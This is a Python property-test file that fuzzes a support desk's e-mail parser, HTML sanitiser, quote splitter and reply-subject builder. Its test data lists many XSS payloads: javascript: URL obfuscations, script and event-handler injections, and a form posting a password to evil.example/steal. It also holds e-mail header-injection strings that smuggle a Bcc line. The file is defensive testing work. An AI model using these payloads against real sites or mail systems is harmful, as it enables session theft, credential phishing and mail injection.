"""Property tests: random and deliberately hostile input against the e-mail parser, the HTML
sanitiser, quote splitting and the subjects we write. Pure functions, no database.

The budget (``max_examples``) is fixed so the file stays fast and its result reproducible; the
examples hypothesis once found are pinned with ``@example`` so they are checked on every run.
"""

from __future__ import annotations

import base64
import binascii
import dataclasses
import quopri
import re
from html.parser import HTMLParser

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from supportdesk.html import ALLOWED_TAGS, sanitize_html
from supportdesk.intake.email_in import EmailParseError, ParsedEmail, parse_email, split_reply
from supportdesk.intake.email_in.decode import decode_bytes, decode_header_value
from supportdesk.outbox.mail import reply_subject

FUZZ = settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
SURROGATE = re.compile(r"[\ud800-\udfff]")

# -- what "inert" means, judged by an HTML parser ---------------------------------------------


class _Markup(HTMLParser):
    """Records every construct a browser could act on; attribute values arrive unescaped."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name not in ("title", "lang") and (tag != "a" or name not in ("href", "rel")):
                self.problems.append(f"attribute {name} on <{tag}>")
            elif name == "href" and _scheme(value or "") not in SAFE_SCHEMES | {""}:
                self.problems.append(f"URL {value!r}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"end tag </{tag}>")

    def handle_comment(self, data: str) -> None:  # IE conditional comments execute
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration {data!r}")


def _scheme(url: str) -> str:
    """The scheme a browser would see (WHATWG URL parsing: leading C0 controls and spaces are
    stripped, tabs and newlines anywhere are removed); "" for a relative URL."""
    url = re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(0x21))))
    found = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return found.group(1).lower() if found else ""


def assert_inert(html: str) -> None:
    markup = _Markup()
    markup.feed(html)
    markup.close()
    assert not markup.problems, (markup.problems, html)


# -- hostile HTML -----------------------------------------------------------------------------

_JS = "alert(document.cookie)"
DANGEROUS_URLS = [
    f"javascript:{_JS}",
    f"JaVaScRiPt:{_JS}",
    f"  javascript:{_JS}",
    f"\x01javascript:{_JS}",
    f"java\tscript:{_JS}",
    f"java\nscript:{_JS}",
    f"java&#x09;script:{_JS}",
    f"jav&#x0A;ascript:{_JS}",
    f"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{_JS}",
    f"&#x6A;avascript&colon;{_JS}",
    f"javascript&#0000058{_JS}",
    f"vbscript:msgbox({_JS})",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "https://example.com/ok",
    "mailto:help@example.com",
    "/relative/path",
]
_URL_ATTRS = [
    ("a", "href"), ("img", "src"), ("iframe", "src"), ("form", "action"),
    ("button", "formaction"), ("object", "data"), ("embed", "src"), ("area", "href"),
    ("base", "href"), ("link", "href"), ("frame", "src"), ("video", "poster"),
    ("td", "background"), ("a", "xlink:href"), ("input", "src"),
]  # fmt: skip


@st.composite
def url_element(draw) -> str:
    tag, attr = draw(st.sampled_from(_URL_ATTRS))
    url = draw(st.sampled_from(DANGEROUS_URLS))
    quote = draw(st.sampled_from(['"', "'", ""]))
    if not quote:
        url = url.replace(" ", "").replace("\t", "").replace("\n", "")
    return f"<{tag} {attr}={quote}{url}{quote}>click</{tag}>"


DANGEROUS_FRAGMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/*",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p onclick='alert(1)' ONMOUSEOVER=\"alert(2)\">hi</p>",
    "<div hx-get='/admin/delete' hx-trigger='load'>x</div>",
    "<span data-hx-post='/api/v1/tickets' data-hx-trigger=load>y</span>",
    "<a hx-on:click='alert(1)' href='https://example.com'>z</a>",
    "<div style='width:expression(alert(1))'>e</div>",
    "<p style=\"background-image:url('javascript:alert(1)')\">u</p>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<form action='https://evil.example/steal'><input name=password></form>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='https://example.com' target=_blank rel=opener>ok</a>",
    "<table><tr><td background='javascript:alert(1)'>cell</td></tr></table>",
    "<blockquote cite='javascript:alert(1)'>quote</blockquote>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b>bold</b> <i>it</i> <pre>  code\n  more</pre>",
    "<p>plain 中文 日本語 text</p>",
    "</p></div></table>",
    "<a href=",
    "<",
    "&",
    "\x00",
]


def html_documents() -> st.SearchStrategy[str]:
    piece = st.one_of(
        st.sampled_from(DANGEROUS_FRAGMENTS),
        url_element(),
        st.text(max_size=20),
        st.text(alphabet="<>/=\"' &#;:abcdefhijlmnoprstv-x", max_size=30),
    )
    return st.lists(piece, max_size=12).map("".join)


# -- structured hostile mail ------------------------------------------------------------------

CHARSETS = [
    "utf-8", "us-ascii", "iso-8859-1", "iso-8859-15", "windows-1252", "windows-1251", "koi8-r",
    "big5", "gbk", "gb2312", "gb18030", "shift_jis", "euc-jp", "iso-2022-jp", "euc-kr",
    "utf-16", "utf-16le", "utf-32", "utf-7", "unicode-1-1-utf-7", "x-unknown", "idna", "rot13",
    "base64", "utf-8'", "", "\"utf-8\"",
]  # fmt: skip
TRANSFER_ENCODINGS = ["7bit", "8bit", "binary", "base64", "quoted-printable", "x-uuencode", "bogus"]
CONTENT_TYPES = [
    "text/plain", "text/html", "text/calendar", "application/octet-stream", "image/png",
    "message/rfc822", "message/delivery-status", "text", "/", "text/plain/extra",
]  # fmt: skip
HEADER_NAMES = [
    "Subject", "From", "To", "Cc", "Reply-To", "Sender", "Message-ID", "In-Reply-To",
    "References", "Date", "Return-Path", "Auto-Submitted", "Precedence", "List-Id",
    "Content-Disposition", "X-Whatever",
]  # fmt: skip
SAMPLE_TEXT = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "您好，我的訂單還沒有收到",
            "注文した商品が届きません",
            "Grüße, Ça va?",
            "Привет",
            "Bcc: evil@example.org",
        ]
    ),
)


LEAF_PARAMS = [
    "; format=flowed",
    "; format=flowed; delsp=yes",
    '; name="=?utf-8?B?5paH5Lu2?="',
    "; charset*=utf-8''%E4%B8%AD",
]


def _encode(text: str, charset: str) -> bytes:
    try:
        return text.encode(charset.strip("\"'") or "ascii", errors="replace")
    except (LookupError, TypeError, ValueError, UnicodeError):
        return text.encode("utf-8", errors="surrogatepass")


@st.composite
def encoded_word(draw) -> bytes:
    charset = draw(st.sampled_from(CHARSETS))
    data = draw(st.one_of(SAMPLE_TEXT.map(lambda t: _encode(t, charset)), st.binary(max_size=20)))
    if draw(st.booleans()):
        payload = base64.b64encode(data)
        kind = b"B"
        if draw(st.booleans()):  # truncated or corrupted base64
            payload = payload[: draw(st.integers(0, len(payload)))] + b"!"
    else:
        payload = binascii.b2a_qp(data, header=True).replace(b"?", b"=3F").replace(b"\n", b"")
        kind = b"Q"
    end = draw(st.sampled_from([b"?=", b"?=", b"", b"?"]))
    return b"=?" + charset.encode("ascii", "replace") + b"?" + kind + b"?" + payload + end


@st.composite
def header_value(draw) -> bytes:
    piece = st.one_of(
        encoded_word(),
        SAMPLE_TEXT.map(lambda t: t.encode("utf-8", "surrogatepass")),
        st.binary(max_size=15),
        st.sampled_from(
            [b"\r\nBcc: evil@example.org", b"\n To: x@example.org", b"=?UTF-8?Q?=0A?=Bcc: e@x.org",
             b"<id@example.com>", b"Maria <maria@example.com>", b'"quoted, name" <a@b.c>', b"<>",
             b"Thu, 1 Jan 1970 00:00:00 +9999", b"=?", b"?=", b" ", b"\t"]
        ),
    )  # fmt: skip
    return b"".join(draw(st.lists(piece, max_size=5)))


@st.composite
def headers(draw, content_type: bytes) -> bytes:
    lines = [
        draw(st.sampled_from(HEADER_NAMES)).encode() + b": " + draw(header_value())
        for _ in range(draw(st.integers(0, 6)))
    ]
    lines.append(b"Content-Type: " + content_type)
    if draw(st.booleans()):
        lines.append(
            b"Content-Transfer-Encoding: " + draw(st.sampled_from(TRANSFER_ENCODINGS)).encode()
        )
    draw(st.randoms()).shuffle(lines)
    return b"\r\n".join(lines)


def _transfer_encode(data: bytes, encoding: bytes) -> bytes:
    if b"base64" in encoding:
        return base64.encodebytes(data)
    if b"quoted-printable" in encoding:
        return quopri.encodestring(data)
    return data


@st.composite
def leaf_part(draw) -> bytes:
    ctype = draw(st.sampled_from(CONTENT_TYPES))
    charset = draw(st.sampled_from(CHARSETS))
    params = f"; charset={charset}" if draw(st.booleans()) else ""
    if draw(st.booleans()):
        params += draw(st.sampled_from(LEAF_PARAMS))
    text = draw(html_documents() if ctype == "text/html" else SAMPLE_TEXT)
    body = draw(st.one_of(st.just(_encode(text, charset)), st.binary(max_size=60)))
    head = draw(headers((ctype + params).encode("ascii", "replace")))
    found = re.search(rb"Content-Transfer-Encoding: (\S+)", head)
    if found and draw(st.booleans()):
        body = _transfer_encode(body, found.group(1))
    return head + b"\r\n\r\n" + body


def _multipart(children: list[bytes]) -> st.SearchStrategy[bytes]:
    @st.composite
    def build(draw) -> bytes:
        boundary = draw(
            st.one_of(
                st.text(alphabet="abcXYZ019'()+_,-./:=? ", min_size=1, max_size=20),
                st.just("=_part"),
            )
        ).encode()
        subtype = draw(st.sampled_from(["mixed", "alternative", "related", "report", "signed"]))
        param = draw(
            st.sampled_from(
                [b'; boundary="%s"' % boundary, b"; boundary=" + boundary, b"", b'; boundary="x"']
            )
        )
        if subtype == "report":
            param += b"; report-type=delivery-status"
        body = b"preamble\r\n"
        for child in children:
            body += b"--" + boundary + b"\r\n" + child + b"\r\n"
        if draw(st.booleans()):  # the closing boundary is often missing in broken mail
            body += b"--" + boundary + b"--\r\n"
        return draw(headers(b"multipart/" + subtype.encode() + param)) + b"\r\n\r\n" + body

    return build()


mime_messages = st.recursive(
    leaf_part(),
    lambda children: st.lists(children, min_size=0, max_size=3).flatmap(_multipart),
    max_leaves=6,
)
raw_inputs = st.one_of(st.binary(max_size=300), mime_messages)


# -- the parser -------------------------------------------------------------------------------


def _strings(value: object):
    if isinstance(value, str):
        yield value
    elif isinstance(value, tuple):
        for item in value:
            yield from _strings(item)
    elif dataclasses.is_dataclass(value):
        for field in dataclasses.fields(value):
            yield from _strings(getattr(value, field.name))


@FUZZ
@given(raw_inputs)
@example(  # UTF-7 decodes "+2AA-" to a lone surrogate, which PostgreSQL cannot store
    b"From: a@example.com\r\nContent-Type: text/plain; charset=utf-7\r\n\r\nhi +2AA-"
)
@example(b"From: a@example.com\r\nSubject: =?utf-7?Q?+2AA-?=\r\n\r\nhi")
@example(b"From: =?unicode-1-1-utf-7?B?KzJBQS0=?= <a@example.com>\r\nSubject: x\r\n\r\nhi")
@example(  # NUL and other control characters in ids, names, addresses and content types
    b"From: =?utf-8?q?A=00B?= <a\x01b@example.com>\r\nTo: c\x00d@example.com\r\n"
    b"Message-ID: <a\x00b@example.com>\r\nAuto-Submitted: =?utf-8?q?no=00?=\r\n"
    b"Content-Type: text/pl\x00ain\r\n\r\nhi"
)
def test_parse_never_crashes_and_yields_clean_text(raw):
    try:
        parsed = parse_email(raw)
    except EmailParseError:
        return
    assert isinstance(parsed, ParsedEmail)
    for value in _strings(parsed):
        assert "\x00" not in value, value
        assert not SURROGATE.search(value), value
    for field in dataclasses.fields(parsed):  # header fields are reused in headers we write
        if field.name not in ("text", "html"):
            for one_line in _strings(getattr(parsed, field.name)):
                assert not re.search(r"[\x00-\x1f\x7f]", one_line), (field.name, one_line)
    assert_inert(parsed.html)
    assert sanitize_html(parsed.html) == parsed.html


@FUZZ
@given(mime_messages)
def test_parse_of_structured_mail_keeps_a_body_or_flags_a_defect(raw):
    """Not every mutation is still an e-mail, but one that parses has consistent fields."""
    try:
        parsed = parse_email(raw)
    except EmailParseError:
        return
    assert parsed.content_type.count("/") == 1
    assert all(a.size >= 0 for a in parsed.attachments)
    assert parsed.references == tuple(dict.fromkeys(parsed.references))


@FUZZ
@given(st.binary(max_size=200), st.sampled_from(CHARSETS + [None]))
def test_decoding_any_bytes_in_any_declared_charset_yields_storable_text(data, charset):
    text = decode_bytes(data, charset)
    assert isinstance(text, str)
    assert not SURROGATE.search(text)


@FUZZ
@given(header_value())
def test_decoding_any_header_yields_storable_text(raw):
    text = decode_header_value(raw.decode("ascii", "surrogateescape"))
    assert not SURROGATE.search(text)


# -- the sanitiser ----------------------------------------------------------------------------


@FUZZ
@given(html_documents())
def test_sanitised_html_is_inert_and_stable(html):
    once = sanitize_html(html)
    assert_inert(once)
    assert sanitize_html(once) == once


@FUZZ
@given(st.text(max_size=200))
def test_sanitising_arbitrary_text_is_inert_and_stable(text):
    once = sanitize_html(text)
    assert_inert(once)
    assert sanitize_html(once) == once


def test_every_dangerous_fragment_alone_is_neutralised():
    for fragment in DANGEROUS_FRAGMENTS:
        assert_inert(sanitize_html(fragment))
    for url in DANGEROUS_URLS:
        cleaned = sanitize_html(f'<a href="{url}">x</a>')
        assert_inert(cleaned)
        if _scheme(url.replace("&#x09;", "\t").replace("&#x0A;", "\n")) in ("javascript", "data"):
            assert "href" not in cleaned, cleaned


def test_the_inertness_check_itself_catches_executable_markup():
    for bad in (
        "<script>x</script>",
        "<p onclick=x>",
        "<a href='java&#x09;script:x'>",
        "<a href=' javascript:x'>",
        "<div hx-get=/x>",
        "<!--[if IE]>x<![endif]-->",
    ):
        markup = _Markup()
        markup.feed(bad)
        assert markup.problems, bad


# -- quotes -----------------------------------------------------------------------------------


@FUZZ
@given(
    st.lists(
        st.one_of(
            st.text(max_size=30),
            st.sampled_from(
                [
                    "> quoted",
                    "On Mon, 1 Jan 2024, Bob <b@example.com> wrote:",
                    "-- ",
                    "",
                    "-----Original Message-----",
                    "From: Bob",
                    "Sent: Monday",
                    "To: Maria",
                    "Sent from my iPhone",
                    "_" * 20,
                    ">",
                    "Am 1. Jan schrieb Bob:",
                    "\r",
                ]
            ),
        ),  # fmt: skip
        max_size=15,
    ).map("\n".join)
)
def test_split_reply_loses_no_line_and_keeps_new_text_while_there_is_any(text):
    new, quoted, signature = split_reply(text)
    kept = "\n".join((new, quoted, signature))
    for line in text.replace("\r\n", "\n").replace("\r", "\n").split("\n"):
        assert line.strip() in kept, (line, new, quoted, signature)
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    if any(line.strip() and not line.lstrip().startswith(">") for line in lines):
        assert new


PLAIN_LINE = st.text(alphabet="abcdefghij klmnop,.!?", min_size=1, max_size=40).filter(
    lambda line: line.strip()
)


@FUZZ
@given(st.lists(PLAIN_LINE, min_size=1, max_size=5), st.lists(PLAIN_LINE, max_size=5))
def test_the_first_line_of_a_reply_above_a_quote_is_new_text(reply_lines, quoted_lines):
    text = "\n".join(
        [*reply_lines, "", "On Mon, 1 Jan 2024 at 10:00, Bob <bob@example.com> wrote:"]
        + [f"> {line}" for line in quoted_lines]
    )
    new, quoted, _ = split_reply(text)
    assert new.splitlines()[0] == reply_lines[0].strip()
    for line in quoted_lines:
        assert line.strip() in quoted


# -- subjects we write ------------------------------------------------------------------------


@FUZZ
@given(
    st.text(
        alphabet=st.one_of(
            st.characters(codec="utf-8"),
            st.sampled_from("\r\n\x00\x0b\x0c\x1c\x1d\x1e\x1f\x85\u2028\u2029\x7f\x1b"),
        ),
        max_size=300,
    ),
    st.integers(min_value=1, max_value=10**12),
)
@example("hi=?UTF-8?Q?=0A?=Bcc: evil@example.org\r\nTo: x@example.org", 7)
@example("Help\x00Bcc: evil@example.org", 7)
def test_reply_subject_is_one_clean_line_of_bounded_length(subject, ticket_id):
    result = reply_subject(subject, ticket_id)
    assert not re.search(r"[\x00-\x1f\x7f\x85\u2028\u2029]", result), result
    assert f"[#{ticket_id}]" in result
    assert len(result) <= len(subject) + len(f"Re:  [#{ticket_id}]")
